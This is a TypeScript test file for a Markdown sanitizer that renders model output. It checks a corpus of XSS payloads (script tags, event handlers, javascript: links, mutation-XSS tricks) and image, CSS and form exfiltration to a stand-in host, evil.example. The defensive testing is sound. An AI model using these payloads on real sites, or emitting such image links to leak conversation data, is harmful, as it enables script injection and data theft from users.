import { describe, expect, it } from "vitest";
import { renderMarkdown, sanitize } from "./markdown";

// Ways in which Markdown or HTML of a model could run code, load something or dress up as part of the page.
export const CORPUS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](//evil.example/)",
  "[x](/history/export)",
  "![x](javascript:alert(1))",
  "![leak](https://evil.example/?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x](x" onerror="alert(1))',
  "<a href='javascript:alert(1)'>x</a>",
  "<a href=' &#14;javascript:alert(1)'>x</a>",
  "<iframe src=https://evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x></object><embed src=x><link rel=stylesheet href=//evil.example/x.css>",
  "<style>body{background:url(//evil.example)}</style>",
  "<div style='background:url(//evil.example);position:fixed;inset:0'>x</div>",
  "<form action=//evil.example><input name=k><button>go</button></form>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video><audio src=//evil.example></audio>",
  "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
  "<img srcset='//evil.example/x 1x' src=x><picture><source srcset=//evil.example></picture>",
  "<a id=app name=draft class='token-card pinned'>x</a><p class=icon-button id=conversation>y</p>",
  "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
  "```js\" onmouseover=\"alert(1)\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "\\(<img src=x onerror=alert(1)>\\) $$<script>alert(1)</script>$$",
  "<template><script>alert(1)</script></template><textarea></textarea><img src=x onerror=alert(1)>",
  "<x-y is=z onclick=alert(1)>z</x-y><marquee onstart=alert(1)>",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |",
  "<!--<img src='--><img src=x onerror=alert(1)>-->",
  "<p draggable=true contenteditable data-ui=1 aria-label=x role=button tabindex=1>z</p>",
];

const TAGS = new Set("A B BLOCKQUOTE BR CODE DEL DETAILS DIV EM H1 H2 H3 H4 H5 H6 HR I IMG INPUT KBD LI MARK OL P PRE S SMALL SPAN STRONG SUB SUMMARY SUP TABLE TBODY TD TH THEAD TR U UL".split(" "));
const ATTRIBUTES = new Set("align alt aria-label checked class colspan dir disabled href lang rel rowspan src start tabindex target title type".split(" "));

describe("sanitizer", () => {
  it.each(CORPUS)("lets nothing through: %s", (text) => {
    for (const fragment of [renderMarkdown(text), sanitize(text)])
      for (const element of fragment.querySelectorAll("*")) {
        expect(TAGS.has(element.tagName), element.outerHTML).toBe(true);
        for (const { name, value } of element.attributes) {
          expect(ATTRIBUTES.has(name), `${name} in ${element.outerHTML}`).toBe(true);
          if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/i);
          if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
          if (name === "class") expect(value).toMatch(/^(language-[\w+#.-]+|math)$/);
        }
      }
  });

  it("keeps what is meant", () => {
    const root = document.createElement("div");
    root.append(renderMarkdown("**b** [x](https://a.b/) ![i](data:image/png;base64,AAAA)\n\n- [x] done\n\n| a |\n|--:|\n| 1 |\n\n```js\nx < 1\n```\n\n\\(a_1 + b_2\\)"));
    expect(root.querySelector("strong")!.textContent).toBe("b");
    expect(root.querySelector("a")!.getAttribute("rel")).toContain("noopener");
    expect(root.querySelector("img")).not.toBe(null);
    expect(root.querySelector<HTMLInputElement>("input")!.disabled).toBe(true);
    expect(root.querySelector("td")!.textContent).toBe("1");
    expect(root.querySelector("pre code.language-js")!.textContent).toBe("x < 1\n");
    expect(root.querySelector("code.math")!.textContent).toBe("\\(a_1 + b_2\\)");
  });

  it("shows a remote image as a link, not loaded", () => {
    const root = document.createElement("div");
    root.append(renderMarkdown("![chart](https://a.b/c.png)"));
    expect(root.querySelector("img")).toBe(null);
    expect(root.querySelector("a")!.getAttribute("href")).toBe("https://a.b/c.png");
  });
});
